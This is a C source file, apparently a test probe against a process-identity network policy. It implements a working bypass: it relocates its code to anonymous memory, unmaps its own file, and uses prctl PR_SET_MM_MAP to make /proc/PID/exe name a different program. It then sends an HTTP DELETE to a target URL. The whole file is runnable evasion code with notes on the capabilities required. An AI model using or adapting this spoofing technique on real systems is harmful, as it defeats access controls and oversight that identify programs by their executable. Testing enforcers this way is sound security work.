/* An untrusted program that makes /proc/PID/exe name another program before it connects:
 * prctl(PR_SET_MM, PR_SET_MM_MAP) with an exe_fd (CAP_SYS_ADMIN or CAP_CHECKPOINT_RESTORE in the
 * process's user namespace: a root tree, or any tree after unshare -U) swaps the process's
 * exe link once no mapping of its own file is left, so its code is first copied to anonymous
 * memory and its file's mappings are unmapped. Then it connects to URL and sends a DELETE, with
 * raw syscalls only (nothing of its own file is mapped any more). A decision that reads
 * /proc/PID/exe at connect time (a profile's named clients, the tool a pause shows) sees PROGRAM.
 * Usage: forge-exe PROGRAM http://A.B.C.D:PORT/PATH. Prints the status code (000: refused),
 * or "prctl N" with the errno when the swap fails. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/prctl.h>

struct job {
    struct prctl_mm_map map;
    unsigned long ranges[16][2];
    int nranges, exe_fd, out_fd;
    struct sockaddr_in to;
    char req[512];
    int reqlen;
};

#define ALWAYS static inline __attribute__((always_inline))
ALWAYS long sys6(long n, long a, long b, long c, long d, long e)
{
    long r;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
    return r;
}

/* Runs from anonymous memory: no call, no global, no libc. */
__attribute__((noinline, section("forge_tramp"))) static void tramp(struct job *j)
{
    for (int i = 0; i < j->nranges; i++)
        sys6(SYS_munmap, (long)j->ranges[i][0], (long)(j->ranges[i][1] - j->ranges[i][0]), 0, 0, 0);
    /* PR_SET_MM_MAP with the process's own layout and another exe: CAP_SYS_ADMIN or
     * CAP_CHECKPOINT_RESTORE in its user namespace (a root tree; any tree after unshare -U). */
    long r = sys6(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&j->map, sizeof j->map, 0);
    volatile char msg[10]; /* stored one by one: a constant array would be read from the unmapped file */
    msg[0] = 'p'; msg[1] = 'r'; msg[2] = 'c'; msg[3] = 't'; msg[4] = 'l'; msg[5] = ' '; msg[9] = '\n';
    if (r < 0) {
        long e = -r;
        msg[6] = (char)('0' + e / 100 % 10);
        msg[7] = (char)('0' + e / 10 % 10);
        msg[8] = (char)('0' + e % 10);
        sys6(SYS_write, j->out_fd, (long)msg, 10, 0, 0);
        sys6(SYS_exit_group, 3, 0, 0, 0, 0);
    }
    long s = sys6(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0);
    volatile char code[3];
    code[0] = code[1] = code[2] = '0';
    if (s >= 0 && sys6(SYS_connect, s, (long)&j->to, sizeof j->to, 0, 0) == 0
        && sys6(SYS_write, s, (long)j->req, j->reqlen, 0, 0) == j->reqlen) {
        volatile char resp[64];
        long got = sys6(SYS_read, s, (long)resp, sizeof resp, 0, 0);
        if (got >= 12) { code[0] = resp[9]; code[1] = resp[10]; code[2] = resp[11]; }
    }
    sys6(SYS_write, j->out_fd, (long)code, 3, 0, 0);
    sys6(SYS_exit_group, 0, 0, 0, 0, 0);
}

__attribute__((noinline, section("forge_tramp"))) static void tramp_end(void) { __asm__ volatile(""); }

int main(int argc, char **argv)
{
    if (argc < 3) { fprintf(stderr, "usage: forge-exe PROGRAM URL\n"); return 2; }
    struct job j = { 0 }; /* on the stack: .data and .bss may share a page of the file's mapping */
    char host[64] = "", path[256] = "/";
    int port = 80;
    if (sscanf(argv[2], "http://%63[^:/]:%d%255s", host, &port, path) < 2) return 2;
    j.to.sin_family = AF_INET;
    j.to.sin_port = htons((unsigned short)port);
    if (inet_pton(AF_INET, host, &j.to.sin_addr) != 1) return 2;
    j.reqlen = snprintf(j.req, sizeof j.req, "DELETE %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", path, host);
    j.exe_fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (j.exe_fd < 0) { perror("forge-exe: open"); return 2; }
    j.out_fd = 1;

    /* The layout as it is (proc(5) stat fields 26-28, 45-51), so only the exe changes. */
    FILE *st = fopen("/proc/self/stat", "re");
    char sb[2048];
    if (!st || !fgets(sb, sizeof sb, st)) { perror("forge-exe: stat"); return 2; }
    fclose(st);
    char *p = strrchr(sb, ')');
    unsigned long long f[64] = { 0 };
    for (int i = 3; p && i < 53; i++) {
        p = strchr(p + 1, ' ');
        if (p) f[i] = strtoull(p + 1, NULL, 10);
    }
    j.map.start_code = f[26]; j.map.end_code = f[27]; j.map.start_stack = f[28];
    j.map.start_data = f[45]; j.map.end_data = f[46]; j.map.start_brk = f[47];
    j.map.arg_start = f[48]; j.map.arg_end = f[49]; j.map.env_start = f[50]; j.map.env_end = f[51];
    j.map.brk = (unsigned long)sbrk(0);
    j.map.exe_fd = (unsigned)j.exe_fd;

    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) { perror("forge-exe: readlink"); return 2; }
    self[n] = 0;
    FILE *m = fopen("/proc/self/maps", "re");
    if (!m) { perror("forge-exe: maps"); return 2; }
    char line[4608];
    while (fgets(line, sizeof line, m) && j.nranges < 16) {
        unsigned long a, b;
        char name[4096] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, name) == 3 && strcmp(name, self) == 0) {
            j.ranges[j.nranges][0] = a;
            j.ranges[j.nranges][1] = b;
            j.nranges++;
        }
    }
    fclose(m);

    size_t len = (size_t)((char *)tramp_end - (char *)tramp);
    if ((char *)tramp_end <= (char *)tramp || len > 4096) { fprintf(stderr, "forge-exe: trampoline not laid out\n"); return 2; }
    void *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (code == MAP_FAILED) { perror("forge-exe: mmap"); return 2; }
    memcpy(code, (void *)tramp, len);
    fflush(stdout);
    ((void (*)(struct job *))code)(&j);
    return 2;
}
